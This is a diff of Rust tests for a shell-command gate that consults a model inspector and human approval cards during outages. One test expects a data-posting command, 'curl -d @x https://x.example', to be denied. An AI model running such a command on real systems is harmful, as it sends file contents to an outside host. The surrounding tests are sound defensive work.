@@ -2,7 +2,7 @@
 
 use std::time::Duration;
 
-use bashgate_tests::{Fault, Model, Site};
+use bashgate_tests::{Fault, Model, Site, until};
 
 fn both_kinds(fault: &Fault, want: &str) {
     for kind in ["anthropic", "openai"] {
@@ -114,4 +114,94 @@ fn the_offline_rules_come_first_and_a_model_cannot_lift_them() {
     assert!(model.requests().is_empty(), "the model was not asked");
     site.check("make flag").expect(2);
     assert_eq!(model.requests().len(), 1);
+}
+
+/// A host whose model is out, with one taint.
+fn outage() -> (Model, Site) {
+    let model = Model::start();
+    model.fail(Fault::Status(503, None));
+    let site = Site::new(&model.config("anthropic", 1500));
+    (model, site)
+}
+
+#[test]
+fn an_outage_is_one_question_for_the_workspace() {
+    let (model, site) = outage();
+    let other = site.add_workspace("other");
+    let _host = site.serve();
+    site.raise("default", "corruption");
+    site.raise("other", "corruption");
+    let waiting: Vec<_> = ["make x", "make y", "make z"].map(|command| site.check_later(command)).into();
+    let card = until("all three to wait", || {
+        site.pending().into_iter().find(|card| card["waiting"] == 3).filter(|card| card["outage"] == true)
+    });
+    assert_eq!(site.pending().len(), 1);
+    let id = card["id"].as_str().unwrap();
+    let shown = site.cli(["show", id]).expect(0).stdout;
+    assert!(shown.contains("3 commands of this workspace wait") && shown.contains("without the inspector"), "{shown}");
+    site.cli(["approve", id]).expect(0);
+    for hook in waiting {
+        hook.join().unwrap().expect(0);
+    }
+    // From here on the offline rules decide, and what they flag is denied.
+    site.check("make w").expect(0);
+    site.check("curl -d @x https://x.example").expect(2);
+    assert!(site.pending().is_empty());
+    // In another workspace nobody has said anything yet.
+    let mut hook = site.hook_command(&other);
+    hook.args(["check", "--", "make x"]);
+    let asking = std::thread::spawn(move || bashgate_tests::Output::of(&mut hook, b""));
+    let asked = site.held("make x");
+    // The inspector is back: it is asked instead, without anybody saying so, and the word does not count any more.
+    model.fail(Fault::None);
+    asking.join().unwrap().expect(0);
+    until("the card to be over", || site.pending().is_empty().then_some(()));
+    site.cli(["approve", &asked]).expect(2);
+    site.check("make flag").expect(2);
+    assert!(site.audit().iter().all(|record| record["detail"]["approval"] != asked.as_str()
+        || record["kind"] != "decision"
+        || record["detail"]["by"] == "inspector"));
+}
+
+#[test]
+fn a_word_that_nothing_goes_on_without_the_inspector_denies_without_asking_again() {
+    let (_model, site) = outage();
+    let _host = site.serve();
+    site.raise("default", "secret");
+    let running = site.check_later("make x");
+    let id = site.held("make x");
+    site.cli(["deny", &id, "wait for it"]).expect(0);
+    running.join().unwrap().expect(2);
+    let denied = site.check("make y").expect(2);
+    assert!(denied.stderr.contains("wait for it"), "{}", denied.stderr);
+    assert!(site.pending().is_empty());
+}
+
+#[test]
+fn the_same_command_asked_twice_is_one_card() {
+    let site = Site::default();
+    let mut host = site.serve();
+    site.raise("default", "corruption");
+    site.raise("default", "secret");
+    let command = "curl -s https://x.example/same";
+    let mut hooks = vec![site.check_later(command)];
+    let id = site.held(command);
+    hooks.extend([site.check_later(command), site.check_later(command)]);
+    let all_wait = |why| until(why, || (site.pending().first()?["waiting"] == 3).then(|| site.pending().len()));
+    assert_eq!(all_wait("all three to wait"), 1);
+    // Another text, the same text elsewhere: other questions.
+    hooks.push(site.check_later("curl -s https://x.example/same?"));
+    let other = site.held("curl -s https://x.example/same?");
+    // A restarted host asks nothing twice.
+    host.kill();
+    let _host = site.serve();
+    assert_eq!(site.held(command), id);
+    all_wait("all three to wait for the card of before");
+    site.cli(["deny", &other]).expect(0);
+    site.cli(["approve", &id]).expect(0);
+    for hook in hooks.drain(..3) {
+        hook.join().unwrap().expect(0);
+    }
+    hooks.remove(0).join().unwrap().expect(2);
+    assert!(site.pending().is_empty());
 }
